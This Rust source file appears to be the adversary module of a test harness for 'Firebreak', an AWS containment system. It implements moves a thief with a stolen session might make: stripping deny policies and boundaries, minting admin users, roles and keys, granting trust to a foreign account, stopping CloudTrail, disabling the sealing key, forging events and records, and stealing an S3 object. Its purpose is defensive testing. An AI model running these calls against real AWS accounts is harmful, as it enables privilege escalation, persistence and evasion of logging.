//! The moves of the adversary: each a call, or the few calls that make sense together, with one outcome.

use anyhow::Result;
use aws_credential_types::Credentials;
use aws_sdk_dynamodb::types::AttributeValue;
use aws_sdk_eventbridge::types::PutEventsRequestEntry;
use aws_sdk_iam::types::{StatusType, Tag};
use aws_sdk_lambda::types::FunctionUrlAuthType;
use firebreak_model::action::FunctionName;
use firebreak_model::ids::IncidentId;
use serde_json::json;

use super::minting::assume;
use crate::acts::REVOCATION;
use crate::aws::Aws;
use crate::deploy::Stack;
use crate::scene::{Role, Victim};
use crate::thief::{Outcome, outcome};

pub(super) const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
const FOREIGN: &str = "arn:aws:iam::999988887777:root";

/// What the adversary does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Move {
    /// Detaches the deny from the role.
    DetachDeny,
    /// Deletes the role's permissions boundary.
    DropBoundary,
    /// Puts a boundary that allows everything over the one that denies.
    ReplaceBoundary,
    /// Deletes the revocation.
    DropRevocation,
    /// Makes a version of the deny policy that denies nothing, and the default of it.
    EmptyDenyPolicy,
    /// Makes a user with every right, and a key of it.
    MintUser,
    /// Takes what denies from a user that it made.
    FreeUser,
    /// Sets a key of such a user to Active: nothing comes of it while the deny is there.
    WakeKey,
    /// Takes what denies from the role that it made.
    FreeMintedRole,
    /// Makes a role with every right, which the account may assume.
    MintRole,
    /// Lets a foreign account assume the role.
    WidenTrust,
    /// Assumes another role of the account.
    ChainRole,
    /// Makes a key of a user that was there before.
    TakeKey,
    /// Gives that user a password.
    SetPassword,
    /// Has the account trust a provider of web identities.
    TrustProvider,
    /// Has it trust a SAML provider.
    TrustFederation,
    /// Sets the function's concurrency, event source and URL free.
    FreeFunction,
    /// Tags the role as exempt.
    TagItself,
    /// Attaches policies to the role until no more go on.
    FillQuota,
    /// Tells Firebreak's bus that the containment was released.
    ForgeEvent,
    /// Writes into the ledger.
    ForgeRecord,
    /// Disables the rule that findings come by.
    DisableRule,
    /// Takes from the rule the permission to invoke.
    RemovePermission,
    /// Sets the concurrency of the function that quarantines to 0.
    StopResponder,
    /// Sets the concurrency of the guard to 0.
    StopGuard,
    /// Disables the rule that tells the guard of changes.
    DisableChanges,
    /// Stops the trail.
    StopTrail,
    /// Disables the key that the ledger's records are sealed with.
    DisableKey,
    /// Takes the responders' subscription to the pages away.
    Unsubscribe,
    /// Deletes the role and makes it again under its name, with every right.
    RecreateRole,
    /// Invokes the release itself.
    InvokeRelease,
    /// Steals an object.
    Steal,
}

impl Move {
    /// What would end the containment of the role.
    pub const UNDOING: [Self; 5] =
        [Self::DetachDeny, Self::DropBoundary, Self::ReplaceBoundary, Self::DropRevocation, Self::FreeFunction];

    /// What would set a principal free.
    pub const FREEING: [Self; 6] = [
        Self::DetachDeny,
        Self::DropBoundary,
        Self::ReplaceBoundary,
        Self::FreeUser,
        Self::FreeMintedRole,
        Self::RecreateRole,
    ];

    /// What is done once, as soon as there is time: first what outlives the session.
    pub const GREEDY: [Self; 6] =
        [Self::ChainRole, Self::MintRole, Self::WidenTrust, Self::TagItself, Self::FillQuota, Self::ForgeEvent];

    /// What blinds the guard in the midst of a bout: it neither hears of what is undone, nor looks. And a record of its own.
    pub const AGAINST_THE_GUARD: [Self; 3] = [Self::StopGuard, Self::DisableChanges, Self::ForgeRecord];

    /// What makes a credential, a principal or a way in: what outlives the session.
    pub const MINTING: [Self; 8] = [
        Self::MintUser,
        Self::MintRole,
        Self::WidenTrust,
        Self::ChainRole,
        Self::TakeKey,
        Self::SetPassword,
        Self::TrustProvider,
        Self::TrustFederation,
    ];

    /// What blinds Firebreak or takes its parts away: put right by the operator afterwards.
    pub const BLINDING: [Self; 11] = [
        Self::InvokeRelease,
        Self::EmptyDenyPolicy,
        Self::DisableRule,
        Self::RemovePermission,
        Self::StopResponder,
        Self::StopGuard,
        Self::DisableChanges,
        Self::StopTrail,
        Self::DisableKey,
        Self::ForgeEvent,
        Self::ForgeRecord,
    ];

    /// Its name.
    pub fn name(self) -> &'static str {
        match self {
            Self::DetachDeny => "detaches the deny",
            Self::DropBoundary => "deletes the boundary",
            Self::ReplaceBoundary => "replaces the boundary",
            Self::DropRevocation => "deletes the revocation",
            Self::EmptyDenyPolicy => "empties the deny policy",
            Self::MintUser => "mints a user and a key",
            Self::FreeUser => "frees a minted user",
            Self::WakeKey => "wakes a minted key",
            Self::FreeMintedRole => "frees the minted role",
            Self::MintRole => "mints a role",
            Self::WidenTrust => "widens the trust",
            Self::ChainRole => "assumes another role",
            Self::TakeKey => "makes a key of another user",
            Self::SetPassword => "gives another user a password",
            Self::TrustProvider => "trusts a provider of its own",
            Self::TrustFederation => "trusts a SAML provider of its own",
            Self::FreeFunction => "sets the function free",
            Self::TagItself => "tags itself",
            Self::FillQuota => "fills the quota",
            Self::ForgeEvent => "forges an event",
            Self::ForgeRecord => "forges a record",
            Self::DisableRule => "disables the rule",
            Self::RemovePermission => "removes the rule's permission",
            Self::StopResponder => "stops the responder",
            Self::StopGuard => "stops the guard",
            Self::DisableChanges => "disables the rule that tells of changes",
            Self::StopTrail => "stops the trail",
            Self::DisableKey => "disables the key of the seals",
            Self::Unsubscribe => "unsubscribes the responders",
            Self::RecreateRole => "makes the role again",
            Self::InvokeRelease => "invokes the release",
            Self::Steal => "steals an object",
        }
    }
}

/// What the adversary is after, and what it knows.
#[derive(Debug, Clone)]
pub struct Target {
    /// The function whose session was stolen, its role and what it reaches.
    pub victim: Victim,
    /// Another role of the account, which it may assume.
    pub other: Role,
    /// A user of the account.
    pub neighbour: String,
    /// Firebreak.
    pub stack: Stack,
    /// The incident.
    pub incident: IncidentId,
    /// A trail.
    pub trail: String,
    /// The suffix of what it makes.
    pub suffix: String,
}

/// Whose credentials the adversary has.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Whose {
    /// The stolen session's.
    Stolen,
    /// A key of a user that it made.
    Minted(String),
    /// A session of the role that it made.
    MintedRole,
    /// A session of another role of the account.
    Chained,
    /// A session of the stolen role as it was made again.
    MadeAgain,
}

/// What came of a move: how it went, and who the adversary now also is.
#[derive(Debug)]
pub struct Made {
    /// How it went.
    pub outcome: Outcome,
    /// An identity that it gained.
    pub gained: Option<(Whose, Credentials)>,
}

impl From<Outcome> for Made {
    fn from(outcome: Outcome) -> Self {
        Self { outcome, gained: None }
    }
}

/// Sets a function's concurrency to 0.
async fn stop(aws: &Aws, function: String) -> Outcome {
    let put = aws.lambda.put_function_concurrency().function_name(function);
    outcome(put.reserved_concurrent_executions(0).send().await)
}

impl Target {
    /// Makes a move as `aws`.
    ///
    /// # Errors
    /// Where a request cannot even be built.
    pub async fn make(&self, aws: &Aws, which: Move) -> Result<Made> {
        let role = &self.victim.role.name;
        let iam = &aws.iam;
        Ok(match which {
            Move::DetachDeny => {
                let arn = self.stack.output("DenyPolicyArn")?;
                outcome(iam.detach_role_policy().role_name(role).policy_arn(arn).send().await).into()
            }
            Move::DropBoundary => outcome(iam.delete_role_permissions_boundary().role_name(role).send().await).into(),
            Move::ReplaceBoundary => {
                let put = iam.put_role_permissions_boundary().role_name(role);
                outcome(put.permissions_boundary(ADMINISTRATOR).send().await).into()
            }
            Move::DropRevocation => {
                outcome(iam.delete_role_policy().role_name(role).policy_name(REVOCATION).send().await).into()
            }
            Move::EmptyDenyPolicy => {
                let document = json!({"Version": "2012-10-17", "Statement": [
                    {"Effect": "Deny", "Action": "none:Nothing", "Resource": "*"}]});
                let create = iam.create_policy_version().policy_arn(self.stack.output("DenyPolicyArn")?);
                outcome(create.policy_document(document.to_string()).set_as_default(true).send().await).into()
            }
            Move::MintUser => self.mint_user(aws, &self.user(0)).await,
            Move::FreeUser => self.free_user(aws, &self.user(0)).await.unwrap_or_else(nothing_there).into(),
            Move::WakeKey => self.wake_keys(aws, &self.user(0)).await.unwrap_or_else(nothing_there).into(),
            Move::FreeMintedRole => self.free_minted_role(aws).await.unwrap_or_else(nothing_there).into(),
            Move::MintRole => self.mint_role(aws).await,
            Move::WidenTrust => {
                let trust = json!({"Version": "2012-10-17", "Statement": [
                    {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"},
                    {"Effect": "Allow", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"}]});
                let update = iam.update_assume_role_policy().role_name(role);
                outcome(update.policy_document(trust.to_string()).send().await).into()
            }
            Move::ChainRole => assume(aws, &self.other.arn, Whose::Chained).await,
            Move::TakeKey => outcome(iam.create_access_key().user_name(&self.neighbour).send().await).into(),
            Move::SetPassword => self.set_password(aws).await.into(),
            Move::TrustProvider => self.trust_provider(aws).await.into(),
            Move::TrustFederation => self.trust_federation(aws).await.into(),
            Move::FreeFunction => self.free_function(aws).await,
            Move::TagItself => {
                let tag = Tag::builder().key("firebreak").value("exempt").build()?;
                outcome(iam.tag_role().role_name(role).tags(tag).send().await).into()
            }
            Move::FillQuota => self.fill_quota(aws).await.into(),
            Move::ForgeEvent => self.forge_event(aws).await?.into(),
            Move::ForgeRecord => {
                let put = aws.dynamodb.put_item().table_name(self.stack.output("LedgerTableName")?);
                let put = put.item("pk", AttributeValue::S(format!("incident#{}", self.incident)));
                outcome(put.item("sk", AttributeValue::S("forged".to_owned())).send().await).into()
            }
            Move::DisableRule => outcome(aws.events.disable_rule().name(self.rule()).send().await).into(),
            Move::RemovePermission => {
                let function = self.stack.function(FunctionName::QuarantinePrincipal);
                let policy = match aws.lambda.get_policy().function_name(&function).send().await {
                    Ok(answer) => answer.policy.unwrap_or_default(),
                    failed => return Ok(outcome(failed).into()),
                };
                let policy: serde_json::Value = serde_json::from_str(&policy)?;
                let sid = policy.pointer("/Statement/0/Sid").and_then(|sid| sid.as_str()).unwrap_or("none").to_owned();
                let remove = aws.lambda.remove_permission().function_name(function).statement_id(sid);
                outcome(remove.send().await).into()
            }
            Move::StopResponder => stop(aws, self.stack.function(FunctionName::QuarantinePrincipal)).await.into(),
            Move::StopGuard => stop(aws, self.stack.function(FunctionName::GuardContainment)).await.into(),
            Move::DisableChanges => outcome(aws.events.disable_rule().name(self.changes()).send().await).into(),
            Move::DisableKey => {
                outcome(aws.kms.disable_key().key_id(self.stack.output("SealKeyArn")?).send().await).into()
            }
            Move::Unsubscribe => {
                let topic = self.stack.output("PagesTopicArn")?;
                match aws.sns.list_subscriptions_by_topic().topic_arn(topic).send().await {
                    Ok(found) => {
                        let arn = found.subscriptions().first().and_then(|one| one.subscription_arn());
                        let arn = arn.unwrap_or("none").to_owned();
                        outcome(aws.sns.unsubscribe().subscription_arn(arn).send().await).into()
                    }
                    failed => outcome(failed).into(),
                }
            }
            Move::RecreateRole => self.recreate_role(aws).await,
            Move::StopTrail => outcome(aws.cloudtrail.stop_logging().name(&self.trail).send().await).into(),
            Move::InvokeRelease => {
                let request = json!({"firebreak": "release", "incident_id": "fb-000000000000000000000000",
                    "reason": "all is well", "requested_by": "the adversary"});
                let function = self.stack.function(FunctionName::ReleaseContainment);
                let invoke = aws.lambda.invoke().function_name(function);
                outcome(invoke.payload(request.to_string().into_bytes().into()).send().await).into()
            }
            Move::Steal => {
                let goods = &self.victim.goods;
                outcome(aws.s3.get_object().bucket(&goods.bucket).key(&goods.object).send().await).into()
            }
        })
    }

    /// The rule that drills, and here findings, come by.
    pub fn rule(&self) -> String {
        format!("{}-drill-findings", self.stack.name)
    }

    /// The rule that tells the guard of changes.
    pub fn changes(&self) -> String {
        format!("{}-changes", self.stack.name)
    }

    /// The name of one of the users that it makes.
    pub fn user(&self, number: usize) -> String {
        format!("minted-{}-{number}", self.suffix)
    }

    /// The name of the role that it makes.
    pub fn minted_role(&self) -> String {
        format!("minted-{}", self.suffix)
    }

    /// Looks at what holds a minted user, and takes it away; `None` where nothing does. Who may not look strikes blindly.
    pub async fn free_user(&self, aws: &Aws, name: &str) -> Option<Outcome> {
        let (iam, deny) = (&aws.iam, self.stack.output("DenyPolicyArn").unwrap_or_default());
        let mut done = Vec::new();
        let attached = iam.list_attached_user_policies().user_name(name).send().await;
        if attached.as_ref().map_or(true, |a| a.attached_policies().iter().any(|one| one.policy_arn() == Some(deny))) {
            done.push(outcome(iam.detach_user_policy().user_name(name).policy_arn(deny).send().await));
        }
        if let Ok(answer) = iam.get_user().user_name(name).send().await
            && answer.user().is_some_and(|user| user.permissions_boundary().is_some())
        {
            done.push(outcome(iam.delete_user_permissions_boundary().user_name(name).send().await));
        }
        best(done)
    }

    /// Sets the keys of a minted user to Active that are not; `None` where all are, or it may not look.
    pub async fn wake_keys(&self, aws: &Aws, name: &str) -> Option<Outcome> {
        let keys = aws.iam.list_access_keys().user_name(name).send().await.ok()?;
        let dead = keys.access_key_metadata().iter().filter(|key| key.status() == Some(&StatusType::Inactive));
        let mut done = Vec::new();
        for id in dead.filter_map(|key| key.access_key_id()) {
            let update = aws.iam.update_access_key().user_name(name).access_key_id(id).status(StatusType::Active);
            done.push(outcome(update.send().await));
        }
        best(done)
    }

    /// The same for the role that it made.
    pub async fn free_minted_role(&self, aws: &Aws) -> Option<Outcome> {
        let (iam, name) = (&aws.iam, self.minted_role());
        let deny = self.stack.output("DenyPolicyArn").unwrap_or_default();
        let mut done = Vec::new();
        let attached = iam.list_attached_role_policies().role_name(&name).send().await;
        if attached.as_ref().map_or(true, |a| a.attached_policies().iter().any(|one| one.policy_arn() == Some(deny))) {
            done.push(outcome(iam.detach_role_policy().role_name(&name).policy_arn(deny).send().await));
        }
        if let Ok(answer) = iam.get_role().role_name(&name).send().await
            && answer.role().is_some_and(|role| role.permissions_boundary().is_some())
        {
            done.push(outcome(iam.delete_role_permissions_boundary().role_name(&name).send().await));
        }
        best(done)
    }

    async fn free_function(&self, aws: &Aws) -> Made {
        let function = &self.victim.function;
        let put = aws.lambda.put_function_concurrency().function_name(function).reserved_concurrent_executions(5);
        let freed = outcome(put.send().await);
        if freed != Outcome::Succeeded {
            return freed.into();
        }
        let update = aws.lambda.update_event_source_mapping().uuid(&self.victim.mapping).enabled(true);
        let mapped = outcome(update.send().await);
        let open = aws.lambda.update_function_url_config().function_name(function);
        let opened = outcome(open.auth_type(FunctionUrlAuthType::None).send().await);
        if mapped.is_stopped() { mapped.into() } else { opened.into() }
    }

    /// Attaches policies of AWS's until no more go on.
    async fn fill_quota(&self, aws: &Aws) -> Outcome {
        let mut last = Outcome::Other("nothing to attach".to_owned());
        for name in ["ReadOnlyAccess", "PowerUserAccess", "SecurityAudit", "AmazonS3FullAccess", "IAMFullAccess"] {
            let attach = aws.iam.attach_role_policy().role_name(&self.victim.role.name);
            let done = outcome(attach.policy_arn(format!("arn:aws:iam::aws:policy/{name}")).send().await);
            if done.is_stopped() {
                return done;
            }
            last = done;
        }
        last
    }

    async fn forge_event(&self, aws: &Aws) -> Result<Outcome> {
        let detail = json!({"schema": 1, "incident_id": self.incident, "episode": 1, "state": "released"});
        let entry = PutEventsRequestEntry::builder()
            .event_bus_name(self.stack.output("OutcomeBusName")?)
            .source("firebreak")
            .detail_type("Containment Released")
            .detail(detail.to_string());
        Ok(outcome(aws.events.put_events().entries(entry.build()).send().await))
    }
}

/// What a move comes to that finds nothing to undo.
fn nothing_there() -> Outcome {
    Outcome::Other("there is nothing to undo".to_owned())
}

/// The outcome of several calls: that of one that went through, where there is one.
fn best(done: Vec<Outcome>) -> Option<Outcome> {
    let went_through = done.iter().position(|one| *one == Outcome::Succeeded).unwrap_or(0);
    done.into_iter().nth(went_through)
}
